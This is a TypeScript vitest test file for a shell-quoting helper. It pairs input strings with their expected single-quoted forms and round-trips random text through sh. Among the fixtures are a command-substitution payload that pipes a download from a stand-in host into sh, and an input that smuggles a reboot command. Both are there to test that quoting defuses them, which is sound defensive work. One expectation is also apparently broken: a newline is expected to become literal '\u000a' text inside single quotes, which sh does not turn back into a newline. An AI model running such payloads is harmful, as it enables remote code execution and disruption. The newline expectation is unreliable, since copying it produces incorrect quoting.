import { execFileSync } from "node:child_process";
import fc from "fast-check";
import { expect, test } from "vitest";
import { shellWord } from "./shell-word.ts";

test.for([
  ["node-role.kubernetes.io/infra=", "node-role.kubernetes.io/infra="],
  ["quay.example/os@sha256:0a", "quay.example/os@sha256:0a"],
  ["$(curl evil.example|sh)", "'$(curl evil.example|sh)'"],
  ["x; reboot #", "'x; reboot #'"],
  ["it's", String.raw`'it'\''s'`],
  ["-rf", "'-rf'"],
  ["", "''"],
  ["a\nb", String.raw`'a\u000ab'`],
] as const)("%j is the word %s of a command [text-shell-word-1]", ([text, word]) => {
  expect(shellWord(text)).toBe(word);
});

test("a shell takes each word for the one argument that it stands for [text-shell-word-2]", () => {
  // printf ends each argument with a character that no text has.
  const texts = fc.sample(fc.string({ unit: "grapheme-ascii", maxLength: 40 }), { numRuns: 500, seed: 7 });
  const script = `printf '%s\\n' ${texts.map(shellWord).join(" ")}`;
  expect(execFileSync("sh", ["-c", script], { encoding: "utf8" }).split("\n").slice(0, -1)).toEqual(texts);
});
